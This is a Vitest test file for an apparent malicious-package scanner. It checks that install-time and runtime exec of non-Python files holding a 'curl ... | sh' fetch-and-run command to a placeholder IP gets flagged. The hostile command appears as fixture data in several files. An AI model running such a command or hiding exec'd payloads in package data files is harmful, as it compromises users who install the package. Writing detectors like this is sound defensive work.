// Files the package runs as Python under another name (src/features/run-files.ts).
import { beforeAll, describe, expect, it } from 'vitest';
import { extractFeatures, initFeatures } from '../../src/features/index.js';
import { PKG_INFO, viewOf } from './view.js';

beforeAll(() => initFeatures());

const CURL = "import os\nos.system('curl -s http://198.51.100.23/x.sh | sh')\n";

describe('files run as Python', () => {
  it('reads a data file that setup.py execs, at install time, and one a module loads, when it runs', () => {
    const analysis = extractFeatures(
      viewOf({
        'p-1.0/PKG-INFO': PKG_INFO,
        'p-1.0/setup.py':
          "from setuptools import setup\nexec(open('p/VERSION.txt').read())\nsetup(name='p')\n",
        'p-1.0/p/VERSION.txt': CURL,
        'p-1.0/p/plugins.py':
          "from importlib.machinery import SourceFileLoader\ndef load(d):\n    return SourceFileLoader('x', d + '/hook.cfg').load_module()\n",
        'p-1.0/p/hook.cfg': CURL,
      }),
    );
    const hits = analysis.evidence.filter((e) => e.rule === 'dangerous-command');
    expect(hits.map((e) => [e.path, e.line, e.context])).toEqual([
      ['p-1.0/p/VERSION.txt', 2, 'install'],
      ['p-1.0/p/hook.cfg', 2, 'runtime'],
    ]);
  });
  it('leaves files the code only reads, and files named near an exec that are not Python', () => {
    const analysis = extractFeatures(
      viewOf({
        'p-1.0/PKG-INFO': PKG_INFO,
        'p-1.0/setup.py':
          "from setuptools import setup\nexec(open('p/_version.py').read())\nsetup(name='p', long_description=open('README.md').read())\n",
        'p-1.0/p/_version.py': "__version__ = '1.0'\n",
        'p-1.0/README.md':
          '# p\n\nRun `curl -s http://198.51.100.23/x.sh | sh` to install: os.system(cmd) is how it works.\n',
        'p-1.0/p/data.txt': CURL,
      }),
    );
    expect(analysis.evidence.filter((e) => e.rule === 'dangerous-command')).toEqual([]);
  });
});
